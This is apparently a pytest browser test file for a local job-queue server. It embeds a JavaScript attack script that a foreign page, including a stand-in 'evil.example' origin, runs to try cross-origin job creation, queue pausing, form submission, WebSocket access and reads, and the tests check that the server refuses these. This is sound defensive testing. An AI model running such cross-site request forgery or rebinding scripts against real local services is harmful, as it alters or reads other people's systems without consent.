"""Pages of a real browser, and what they can do to a server on the loopback."""

from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.browser.chromium import pages, visit
from tests.e2e.node import Node, running

pytestmark = pytest.mark.browser

JOB = '{"type":"t","args":[]}'
# Tries everything that a page can do to another server without its leave, and what it can read.
ATTACK = """
const target = %r, job = %r;
const report = {};
async function attempt(name, options, path) {
  try {
    const answer = await fetch(target + path, options);
    report[name] = [answer.type, answer.status, (await answer.text()).slice(0, 200)];
  } catch (error) { report[name] = [error.name]; }
}
function loaded(frame, begin) {
  return new Promise(done => {
    frame.addEventListener("load", () => done("loaded"));
    begin();
  });
}
const jobs = "/ojs/v1/jobs", pause = "/ojs/v1/queues/default/pause";
const json = {"Content-Type": "application/json"};
await attempt("simple", {method: "POST", body: new Blob([job]), mode: "no-cors"}, jobs);
await attempt("text", {method: "POST", body: job, mode: "no-cors"}, jobs);
await attempt("pause", {method: "POST", mode: "no-cors"}, pause);
await attempt("hidden", {method: "POST", mode: "no-cors", referrerPolicy: "no-referrer"}, pause);
await attempt("json", {method: "POST", body: job, headers: json}, jobs);
await attempt("put", {method: "PUT", body: "{}", headers: json}, "/ojs/v1/queues/default/config");
await attempt("read", {}, "/ojs/v1/queues");
const form = document.createElement("form");
Object.assign(form, {method: "POST", action: target + pause, target: "answer"});
document.body.append(form);
const frame = document.createElement("iframe");
frame.name = "answer";
document.body.append(frame);
report.form = await loaded(frame, () => form.submit());
report.socket = await new Promise(done => {
  const socket = new WebSocket(target.replace("http", "ws") + "/ojs/v1/ws");
  socket.onopen = () => done("open");
  socket.onerror = () => done("refused");
});
report.navigation = await loaded(frame, () => { frame.src = target + "/ojs/manifest"; });
await fetch(%r + "/report", {method: "POST", body: JSON.stringify(report)});
"""


async def state(node: Node) -> tuple[int, bool, str]:
    """Return the number of jobs, whether the queue is paused, and the answer."""
    async with httpx.AsyncClient(base_url=node.url) as client:
        jobs = (await client.get("/ojs/v1/jobs")).json()["pagination"]["total"]
        queue = (await client.get("/ojs/v1/queues/default")).json()
        paused = queue.get("queue", {}).get("status") == "paused"
        return jobs, paused, (await client.get("/metrics")).text


async def attacked(
    node: Node, page_at: str, tmp_path: Path, *, target: str | None = None, names: str = ""
) -> dict[str, Any]:
    """Return the report of a page of another origin, whose port stands for %d."""
    async with pages("") as served:
        own = page_at % served.port
        served.script = ATTACK % (target or node.url, JOB, own)
        return await visit(f"{own}/", served, tmp_path / "profile", names=names)


@pytest.mark.parametrize(
    "page_at", ["http://127.0.0.1:%d", "http://localhost:%d", "http://evil.example:%d"]
)
async def test_a_foreign_page_changes_and_reads_nothing(tmp_path: Path, page_at: str) -> None:
    async with running(str(tmp_path / "ojs.db")) as node:
        told = await attacked(node, page_at, tmp_path, names="evil.example")
        jobs, paused, metrics = await state(node)
    assert (jobs, paused) == (0, False)
    for name in ("json", "put", "read"):
        assert told[name] == ["TypeError"], name
    for name in ("simple", "text", "pause", "hidden"):
        assert told[name][:2] == ["opaque", 0], name
    assert told["socket"] == "refused"
    # A link that leads to the server is followed.
    assert told["navigation"] == "loaded"
    assert 'ojs_http_requests_total{route="/ojs/manifest",status="200"} 1.0' in metrics
    # The refused requests did reach the server.
    assert 'ojs_http_requests_total{route="unmatched",status="403"}' in metrics


async def test_a_name_that_leads_here_opens_nothing(tmp_path: Path) -> None:
    async with running(str(tmp_path / "ojs.db")) as node:
        port = node.url.rpartition(":")[2]
        renamed = f"http://evil.example:{port}"
        # As after the name of the page was made to lead to the server.
        told = await attacked(
            node, "http://evil.example:%d", tmp_path, target=renamed, names="evil.example"
        )
        jobs, paused, metrics = await state(node)
    assert (jobs, paused) == (0, False)
    assert told["read"] == ["TypeError"]
    assert told["socket"] == "refused"
    assert 'route="/ojs/manifest",status="200"' not in metrics


async def test_a_page_of_a_listed_origin_works(tmp_path: Path) -> None:
    async with pages("") as served:
        own = f"http://127.0.0.1:{served.port}"
        options = ("--cors-origin", own)
        async with running(str(tmp_path / "ojs.db"), *options) as node:
            served.script = ATTACK % (node.url, JOB, own)
            told = await visit(f"{own}/", served, tmp_path / "profile")
            jobs, paused, _ = await state(node)
    assert (told["json"][:2], told["put"][:2]) == (["cors", 201], ["cors", 200])
    assert told["read"][:2] == ["cors", 200]
    assert "default" in told["read"][2]
    assert (told["socket"], told["navigation"]) == ("open", "loaded")
    # The second one came without a media type, so without a preflight.
    assert (jobs, paused) == (2, True)
